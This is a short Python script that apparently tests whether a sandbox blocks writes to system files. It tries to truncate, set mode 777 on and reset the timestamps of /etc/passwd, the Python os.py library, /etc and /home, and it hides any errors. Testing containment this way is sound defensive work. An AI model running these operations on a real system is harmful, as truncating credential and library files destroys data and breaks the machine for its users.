# Changes modes, times and lengths of files that it may not open.
import glob
import os

changed = []
for path in glob.glob("/usr/lib/python3*/os.py") + ["/etc/passwd", "/etc", "/tmp", "/home"]:
    for change in (
        lambda: os.chmod(path, 0o777),
        lambda: os.utime(path, (1, 1)),
        lambda: os.truncate(path, 0),
        lambda: os.close(os.open(path, os.O_TRUNC)),
    ):
        try:
            change()
            # In a layer with a file system of its own /tmp is the program's.
            changed += [path] if path != "/tmp" else []
        except OSError:
            pass


def f(x):
    return x + 1 if changed else "nothing changed"
